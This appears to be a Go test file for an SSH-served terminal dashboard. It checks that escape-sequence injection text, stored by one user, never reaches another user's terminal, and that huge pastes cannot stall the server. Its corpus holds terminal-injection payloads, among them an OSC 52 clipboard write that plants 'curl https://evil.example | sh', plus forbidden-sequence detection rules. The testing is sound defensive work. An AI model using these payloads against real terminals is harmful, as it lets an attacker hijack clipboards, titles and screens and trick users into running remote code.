package sshd

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
	gossh "golang.org/x/crypto/ssh"

	"wardpanel/model"
	"wardpanel/tui/sshd/sshtest"
	"wardpanel/tui/termtest"
)

// The bad-text corpus (issue 6): text built to drive a terminal, stored
// through the TUI (pasted and typed into a new problem) and through an SSH
// command (an action's outcome), while another session watches the board,
// the problem and the action. The bytes the watcher receives may hold only
// the kinds of escape sequence the application sends anyway, as a
// baseline run of the same screens with plain text shows.

type badText struct{ name, text string }

var badCorpus = []badText{
	{"OSC 52 clipboard write", "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl https://evil.example | sh")) + "\x07"},
	{"OSC 0 title", "\x1b]0;PWNED TITLE\x07 and \x1b]2;PWNED AGAIN\x1b\\"},
	{"OSC 8 link", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"},
	{"erase display", "\x1b[2J\x1b[H wiped"},
	{"full reset", "\x1bc reset"},
	{"cursor position report", "\x1b[6n and \x1b[?6n asks"},
	{"bare carriage return", "shown\rhidden overwrite"},
	{"NUL", "nul\x00byte"},
	{"8-bit C1", "c1 \x9b31m red \x9d0;title\x9c \x90q\x9c"},
	{"C1 as code points", "c1 \u009b31m red \u0085next"},
	{"right-to-left override", "rlo \u202etxt.exe\u202c and \u2066isolate\u2069"},
	{"invalid UTF-8", "bad \xff\xfe\xc3\x28 and \xed\xa0\x80 utf8"},
	{"DCS, APC, PM and SOS", "\x1bP+q544e\x1b\\ \x1b_Gi=1;AAAA\x1b\\ \x1b^pm\x1b\\ \x1bXsos\x1b\\"},
	{"SGR and window ops", "\x1b[31;5mblink\x1b[0m \x1b[8;1;1t \x1b[?1049l \x1b[?1000h"},
}

// rawTap keeps every byte a session printed, beside the emulator's screen.
type rawTap struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (r *rawTap) Write(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.b.Write(p)
}

func (r *rawTap) Len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.b.Len()
}

func (r *rawTap) Bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return bytes.Clone(r.b.Bytes())
}

// openTapped is openTerminal with the raw stream recorded: what the
// session printed reaches the tap before the screen, so once text is on
// the screen the bytes that drew it are in the tap.
func openTapped(t *testing.T, addr string, signer gossh.Signer, w, h int) (*terminal, *rawTap) {
	t.Helper()
	return tappedAs(t, addr, "anyone", signer, w, h)
}

// tappedAs is openTapped as user.
func tappedAs(t testing.TB, addr, user string, signer gossh.Signer, w, h int) (*terminal, *rawTap) {
	t.Helper()
	c, err := gossh.Dial("tcp", addr, sshtest.Config(user, signer))
	if err != nil {
		t.Fatal(err)
	}
	sess, err := c.NewSession()
	if err != nil {
		c.Close()
		t.Fatal(err)
	}
	scr := termtest.NewScreen(w, h)
	tap := &rawTap{}
	out := &teeWriter{a: tap, b: scr}
	sess.Stdout, sess.Stderr = out, out
	in, err := startShell(sess, w, h)
	if err != nil {
		c.Close()
		scr.Close()
		t.Fatal(err)
	}
	term := &terminal{client: c, sess: sess, screen: scr, in: in}
	t.Cleanup(term.close)
	return term, tap
}

type teeWriter struct {
	a, b interface{ Write([]byte) (int, error) }
}

func (w *teeWriter) Write(p []byte) (int, error) {
	_, _ = w.a.Write(p)
	return w.b.Write(p)
}

// rendererOps are the CSI finals the renderer uses to move the cursor,
// erase or shift within what it draws, set a scroll region and set
// colours: it picks among them by what changed on screen, so they are
// allowed whatever their parameters, which carry numbers, not text.
const rendererOps = "HfABCDEFGdeaX`KLMP@SRTbr"

// seqKind names an escape sequence by what it does: a renderer operation
// by its final byte alone; any other CSI or ESC sequence (modes, reports,
// resets, erasing the screen) in full; a string sequence (OSC, DCS, APC,
// PM, SOS) by its whole content. SGR is named by attribute, with colours
// as one kind, so text styled to blink or hide would show as new.
func seqKind(seq []byte) []string {
	s := string(seq)
	switch {
	case ansi.HasCsiPrefix(seq):
		body := strings.TrimPrefix(strings.TrimPrefix(s, "\x1b["), "\x9b")
		if body == "" {
			return []string{"CSI (empty)"}
		}
		final := body[len(body)-1]
		params := body[:len(body)-1]
		switch {
		case final == 'm' && strings.Trim(params, "0123456789;:") == "":
			return sgrKinds(params)
		case strings.IndexByte(rendererOps, final) >= 0 && strings.Trim(params, "0123456789;") == "":
			return []string{"CSI " + string(final)}
		}
		return []string{"CSI " + body}
	case ansi.HasOscPrefix(seq), ansi.HasDcsPrefix(seq), ansi.HasApcPrefix(seq), ansi.HasPmPrefix(seq), ansi.HasSosPrefix(seq):
		return []string{fmt.Sprintf("STRING %q", s)}
	case ansi.HasEscPrefix(seq):
		return []string{fmt.Sprintf("ESC %q", s[1:])}
	case len(seq) == 1 && (seq[0] < 0x20 || seq[0] == 0x7f):
		return []string{fmt.Sprintf("C0 %#02x", seq[0])}
	case len(seq) == 1 && seq[0] >= 0x80 && seq[0] < 0xa0:
		return []string{fmt.Sprintf("C1 byte %#02x", seq[0])}
	}
	return nil
}

// sgrKinds names an SGR sequence's attributes; colours (30–49, 90–107,
// and 38/48/58 with their arguments) are one kind, and resets another.
func sgrKinds(params string) []string {
	var out []string
	fields := strings.FieldsFunc(params, func(r rune) bool { return r == ';' })
	if len(fields) == 0 {
		return []string{"SGR off"}
	}
	for i := 0; i < len(fields); i++ {
		f := fields[i]
		if base, _, sub := strings.Cut(f, ":"); sub {
			f = base // 4:3 (curly underline), 38:2:… (colour)
		}
		var n int
		fmt.Sscan(f, &n)
		switch {
		case n == 38 || n == 48 || n == 58:
			out = append(out, "SGR colour")
			if !strings.Contains(fields[i], ":") && i+1 < len(fields) {
				if fields[i+1] == "5" {
					i += 2
				} else if fields[i+1] == "2" {
					i += 4
				}
			}
		case n >= 30 && n <= 49, n >= 90 && n <= 107:
			out = append(out, "SGR colour")
		case n == 0 || n >= 22 && n <= 29:
			// Turning attributes off is how the renderer moves from one
			// cell's style to the next.
			out = append(out, "SGR off")
		default:
			out = append(out, "SGR "+f)
		}
	}
	return out
}

// sequenceAt is one sequence of a stream, where it starts.
type sequenceAt struct {
	at   int
	kind string
}

// decodeStream splits a session's output into its sequences, with where
// each starts, and reports the text that must never be in it.
func decodeStream(raw []byte) (seqs []sequenceAt, text []string) {
	var state byte
	for at := 0; at < len(raw); {
		seq, _, n, next := ansi.DecodeSequence(raw[at:], state, nil)
		if n <= 0 {
			n = 1
		}
		if ks := seqKind(seq); ks != nil {
			for _, k := range ks {
				seqs = append(seqs, sequenceAt{at, k})
			}
		} else {
			for _, r := range string(seq) {
				switch {
				case r >= 0x80 && r < 0xa0:
					text = append(text, fmt.Sprintf("%d: C1 control U+%04X", at, r))
				case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
					text = append(text, fmt.Sprintf("%d: bidi control U+%04X", at, r))
				}
			}
		}
		state = next
		at += n
	}
	return seqs, text
}

// kinds counts the sequences of each kind starting in [from, to).
func kinds(seqs []sequenceAt, from, to int) map[string]int {
	out := map[string]int{}
	for _, s := range seqs {
		if s.at >= from && s.at < to {
			out[s.kind]++
		}
	}
	return out
}

func sortedKeys(m map[string]int) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// forbidden says why a kind of sequence must never reach a terminal from
// text, baseline or not: "" if it may.
func forbidden(kind string) string {
	switch {
	case strings.HasPrefix(kind, "STRING") && !strings.HasPrefix(kind, `STRING "\x1b]`):
		return "a DCS, APC, PM or SOS string"
	case strings.HasPrefix(kind, `STRING "\x1b]52;`), strings.HasPrefix(kind, `STRING "\x1b]8;`),
		strings.HasPrefix(kind, `STRING "\x1b]0;`), strings.HasPrefix(kind, `STRING "\x1b]1;`), strings.HasPrefix(kind, `STRING "\x1b]2;`):
		return "a clipboard, hyperlink or title OSC"
	case kind == `ESC "c"`:
		return "a full reset"
	case strings.HasPrefix(kind, "CSI ") && strings.HasSuffix(kind, "n"):
		return "a device status report request"
	case strings.HasPrefix(kind, "C1 "):
		return "an 8-bit C1 control"
	case kind == "C0 0x00":
		return "NUL"
	}
	return ""
}

// appAttributes are the SGR kinds of the application's own styles
// (tui/styles.go: colours, bold, underline, reverse), and the resets
// between them, which a frame may or may not happen to use.
var appAttributes = []string{"SGR colour", "SGR off", "SGR 1", "SGR 4", "SGR 7"}

// judge lists what is wrong with a session's output: raw[:baseEnd] is
// the baseline, the application's own sequences on the same screens;
// raw[baseEnd:] is what came with the corpus.
func judge(t *testing.T, raw []byte, baseEnd int) []string {
	var problems []string
	if !utf8.Valid(raw) {
		problems = append(problems, "bytes that are not UTF-8")
	}
	seqs, text := decodeStream(raw)
	problems = append(problems, text...)
	base, bad := kinds(seqs, 0, baseEnd), kinds(seqs, baseEnd, len(raw))
	t.Logf("baseline: %v", base)
	t.Logf("with the corpus: %v", bad)
	for _, k := range sortedKeys(kinds(seqs, 0, len(raw))) {
		if why := forbidden(k); why != "" {
			problems = append(problems, fmt.Sprintf("%s: %s", why, k))
		}
	}
	for _, k := range sortedKeys(bad) {
		renderer := strings.HasPrefix(k, "CSI ") && len(k) == 5 && strings.Contains(rendererOps, k[4:])
		if base[k] == 0 && !renderer && !slices.Contains(appAttributes, k) && k != "C0 0x0a" && k != "C0 0x0d" {
			problems = append(problems, fmt.Sprintf("%d × %s, which the application does not send", bad[k], k))
		}
	}
	// The screen itself is erased only when the session starts.
	if n := bad["CSI 2J"] + bad["CSI 3J"]; n > 0 {
		problems = append(problems, fmt.Sprintf("the screen erased %d times", n))
	}
	return problems
}

// The judge itself: each item of the corpus, passed through as it is,
// would be caught (a bare carriage return by what the screen shows, which
// the end-to-end test checks).
func TestBadTextJudgeCatchesEveryItem(t *testing.T) {
	base := []byte("\x1b[?1049h\x1b[2J\x1b[H\x1b]11;?\x07\x1b[1;4mWard\x1b[0m \x1b[38;5;12mlive\x1b[39m\r\n\x1b[3;1Hrow\x1b[K")
	for _, bt := range badCorpus {
		if bt.name == "bare carriage return" {
			continue
		}
		raw := append(append(slices.Clone(base), "\x1b[5;1H"...), bt.text...)
		if problems := judge(t, raw, len(base)); len(problems) == 0 {
			t.Errorf("%s passed through unnoticed", bt.name)
		}
	}
	if problems := judge(t, append(slices.Clone(base), "\x1b[5;1H\x1b[1mplain\x1b[22m text\x1b[K\r\n"...), len(base)); len(problems) > 0 {
		t.Errorf("plain text judged bad: %v", problems)
	}
}

// quote puts s in single quotes for the server's shell-like command parsing.
func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestBadTextReachesNoOtherTerminal(t *testing.T) {
	f := startServer(t, false, func(c *Config) { c.ConnectionBurst, c.ConnectionsPerSecond = 1000, 1000 })
	dana, err := f.st.UserByName("Dana Police")
	if err != nil {
		t.Fatal(err)
	}
	writer := openTerminal(t, f.addr, f.police, 100, 30)
	watcher, tap := openTapped(t, f.addr, f.housing, 100, 44) // tall enough for the plan, the timeline and the actions below a many-line description
	writer.screen.WaitFor(t, "● live")
	watcher.screen.WaitFor(t, "● live")
	cmds := &mxRunner{t: t}
	cmds.c, err = dial(t, f.addr, gossh.PublicKeys(f.police))
	if err != nil {
		t.Fatal(err)
	}
	defer cmds.c.Close()
	watcherCmds := &mxRunner{t: t}
	watcherCmds.c, err = dial(t, f.addr, gossh.PublicKeys(f.housing))
	if err != nil {
		t.Fatal(err)
	}
	defer watcherCmds.c.Close()

	// round stores text through the writer's TUI and an SSH command, and
	// walks the watcher through the board, the problem and its action.
	var commandOutput bytes.Buffer
	made := 1 // problems on the watcher's board: the fixture's panel-wide one, then one a round
	round := func(label, text string) {
		t.Helper()
		t.Logf("round %s", label)
		// The writer pastes the text into a new problem's title and
		// description, and types it into the description as keys.
		writer.press(t, "n")
		writer.screen.WaitFor(t, "ctrl+s")
		writer.press(t, label+" ")
		writer.press(t, "\x1b[200~"+text+"\x1b[201~")
		writer.press(t, "\t\t")
		writer.press(t, "\x1b[200~"+text+"\x1b[201~")
		if strings.IndexByte(text, 0x1b) < 0 && strings.IndexByte(text, 0x9b) < 0 {
			// Typed as keys too. (An escape sequence typed is a key or a
			// terminal report to the writer's own program, not text: a
			// typed "ESC[8;1;1t" tells it its window is 1×1.)
			writer.press(t, " typed: "+text+" end.")
		}
		mark := watcher.screen.Mark()
		wmark := writer.screen.Mark()
		writer.press(t, "\x13") // ctrl+s: the new problem opens
		writer.screen.WaitForSince(t, wmark, "Created")
		wmark = writer.screen.Mark()
		writer.press(t, "\x1b")
		writer.screen.WaitForSince(t, wmark, "sort priority")
		watcher.screen.WaitForSince(t, mark, label)
		var problem model.Problem
		ps, err := f.st.Problems(dana, testWard)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range ps {
			if strings.HasPrefix(p.Title, label) {
				problem = p
			}
		}
		if problem.ID == 0 {
			t.Fatalf("%s: the problem was not saved", label)
		}
		action, err := f.st.CreateAction(model.Actor{User: dana, Fingerprint: "test"}, model.Action{Ward: testWard, ProblemID: problem.ID,
			Title: label + " action", OwnerAgency: "police", Due: model.DateOnly(time.Now()).AddDate(0, 0, 7)})
		if err != nil {
			t.Fatal(err)
		}
		out, errOut, code := cmds.run(fmt.Sprintf("action done %d --outcome %s", action.ID, quote(label+" outcome "+text)))
		commandOutput.WriteString(out + errOut)
		if code != 0 {
			t.Fatalf("%s: action done: exit %d, %q", label, code, errOut)
		}

		// The watcher finds the problem, opens it, then its action.
		watcher.press(t, "/"+label+"\r")
		mark = watcher.screen.Mark()
		watcher.press(t, "\r")
		watcher.screen.WaitForSince(t, mark, label+" action")
		// The title is drawn whole, as stored: nothing in it moved the
		// cursor back over it or erased it.
		watcher.screen.WaitFor(t, model.ProblemRef(problem.ID)+" "+problem.Title)
		mark = watcher.screen.Mark()
		watcher.press(t, "\t\r")
		watcher.screen.WaitForSince(t, mark, label+" outcome")
		mark = watcher.screen.Mark()
		watcher.press(t, "\x1b") // back to the problem (the action's screen has no timeline)
		watcher.screen.WaitForSince(t, mark, "Stage timeline (")
		mark = watcher.screen.Mark()
		watcher.press(t, "\x1b") // back to the board, still searching
		watcher.screen.WaitForSince(t, mark, "sort priority")
		mark = watcher.screen.Mark()
		watcher.press(t, "\x1b") // the search cleared
		made++
		watcher.screen.WaitForSince(t, mark, fmt.Sprintf("%d/%d ·", made, made))

		for _, cmd := range []string{"board", fmt.Sprintf("action show %d", action.ID), fmt.Sprintf("action show %d --json", action.ID), "actions --json"} {
			out, errOut, _ := watcherCmds.run(cmd)
			commandOutput.WriteString(out + errOut)
		}
	}

	// The baseline: the same screens, with plain text.
	for i := range 4 {
		round(fmt.Sprintf("Fine %02d", i), fmt.Sprintf("plain text number %d, with nothing odd in it", i))
	}
	baseEnd := tap.Len()
	for i, bt := range badCorpus {
		round(fmt.Sprintf("Bad %02d", i), bt.text)
	}

	raw := tap.Bytes()
	for _, problem := range judge(t, raw, baseEnd) {
		t.Errorf("the watcher received %s", problem)
	}
	if bytes.IndexByte(commandOutput.Bytes(), 0x1b) >= 0 || !utf8.Valid(commandOutput.Bytes()) {
		t.Errorf("command output carries control sequences or invalid UTF-8:\n%q", commandOutput.String())
	}
	if _, text := decodeStream(commandOutput.Bytes()); len(text) > 0 {
		t.Errorf("command output carries %v", text)
	}
}

// A 10 MB paste (the corpus's last item) is capped where it lands, and
// while the server takes it in, another session carries on.
func TestHugePasteIsCappedAndDelaysNobody(t *testing.T) {
	huge := strings.Repeat(strings.Repeat("0123456789abcdef", 63)+"\n", 10<<10)
	for _, bt := range badCorpus {
		huge += bt.text + "\n"
	}
	hugePaste(t, huge, 30*time.Second)
}

// The same paste with the corpus throughout: every ESC followed by one
// byte, and every byte that is not UTF-8, makes the terminal reader
// (github.com/charmbracelet/ultraviolet TerminalReader.scanEvents) stop
// and wait for more input inside the paste, then scan the whole buffered
// paste again with the next read: quadratic, 1 MB takes ~2 s of CPU, 2 MB
// ~8 s, 10 MB minutes, on the server, per session.
func TestHugeLacedPasteIsBounded(t *testing.T) {
	var huge strings.Builder
	for i := 0; huge.Len() < 10<<20; i++ {
		huge.WriteString(strings.Repeat("0123456789abcdef", 63))
		huge.WriteString(badCorpus[i%len(badCorpus)].text)
		huge.WriteString("\n")
	}
	hugePaste(t, huge.String(), 30*time.Second)
}

// hugePaste pastes text into a new problem's description and saves it,
// within limit, while another session follows a change made meanwhile.
func hugePaste(t *testing.T, text string, limit time.Duration) {
	f := startServer(t, false)
	dana, err := f.st.UserByName("Dana Police")
	if err != nil {
		t.Fatal(err)
	}
	writer := openTerminal(t, f.addr, f.police, 100, 30)
	watcher, tap := openTapped(t, f.addr, f.housing, 100, 30)
	writer.screen.WaitFor(t, "● live")
	watcher.screen.WaitFor(t, "● live")

	writer.press(t, "n")
	writer.screen.WaitFor(t, "ctrl+s")
	writer.press(t, "Huge paste")
	writer.press(t, "\t\t")
	start := time.Now()
	sent := make(chan error, 1)
	go func() {
		_, err := writer.in.Write([]byte("\x1b[200~" + text + "\x1b[201~"))
		sent <- err
	}()

	// Meanwhile the watcher's board follows a change made elsewhere.
	f.touch(t, "Noticed during the paste")
	if err := watcher.screen.Await("Noticed during the paste", 5*time.Second); err != nil {
		t.Fatalf("another session stalled while the paste went in: %v", err)
	}

	select {
	case err := <-sent:
		if err != nil {
			t.Fatalf("the paste was not taken: %v", err)
		}
	case <-time.After(limit):
		t.Fatalf("the server did not take a %d MB paste within %v", len(text)>>20, limit)
	}
	wmark := writer.screen.Mark()
	writer.press(t, "\x13")
	if err := writer.screen.Await("Created", limit-time.Since(start)); err != nil || writer.screen.Mark() == wmark {
		t.Fatalf("the paste was not saved within %v: %v", limit, err)
	}
	t.Logf("pasted and saved in %v", time.Since(start))
	ps, err := f.st.Problems(dana, testWard)
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(ps, func(p model.Problem) bool { return p.Title == "Huge paste" })
	if i < 0 {
		t.Fatal("the problem was not saved")
	}
	if n := utf8.RuneCountInString(ps[i].Description); n > model.MaxTextLen || n == 0 {
		t.Errorf("the description holds %d characters; want it capped at %d", n, model.MaxTextLen)
	}
	raw := tap.Bytes()
	if _, bad := decodeStream(raw); len(bad) > 0 || !utf8.Valid(raw) {
		t.Errorf("the watcher received %v", bad)
	}
}

// The corpus's 10 MB through an SSH command: more than an SSH packet holds,
// so it is refused at once, and the server carries on.
func TestHugeCommandIsRefused(t *testing.T) {
	f := startServer(t, false)
	open, _ := f.withActions(t)
	watcher := openTerminal(t, f.addr, f.housing, 100, 30)
	watcher.screen.WaitFor(t, "● live")
	c, err := dial(t, f.addr, gossh.PublicKeys(f.police))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	sess, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	out, err := sess.CombinedOutput(fmt.Sprintf("action done %d --outcome %s", open.ID, quote(strings.Repeat("x", 10<<20))))
	if err == nil || time.Since(start) > 5*time.Second {
		t.Errorf("a 10 MB command: %v after %v, output %.200q; want it refused at once", err, time.Since(start), out)
	}
	f.touch(t, "Noticed after the command")
	watcher.screen.WaitFor(t, "Noticed after the command")
	if _, errOut, code := sshRun(t, f.addr, f.police, fmt.Sprintf("action show %d", open.ID)); code != 0 {
		t.Errorf("the server no longer answers commands: %q", errOut)
	}
}

// A command that does fit in a packet (up to some 256 KB) must be answered
// as quickly: charm.land/ssh's Session.Command splits the raw command with
// github.com/anmitsu/go-shlex, whose readToken grows each token by string
// concatenation, so splitting is quadratic (50 KB 2 s, 100 KB 6 s, 200 KB
// 25 s of CPU), and tui/sshd calls it several times a session
// (identity.go sessionKind, sessions.go track, commands.go), the first
// before the user is known. (Since issue 14 an unknown key no longer
// reaches a session; an enrolled one still may send such a command.)
func TestLongCommandIsAnsweredQuickly(t *testing.T) {
	f := startServer(t, false)
	start := time.Now()
	_, _, _ = sshRun(t, f.addr, f.police, "board '"+strings.Repeat("x", 200<<10)+"'")
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("a 200 KB command took %v to refuse", d)
	}
}
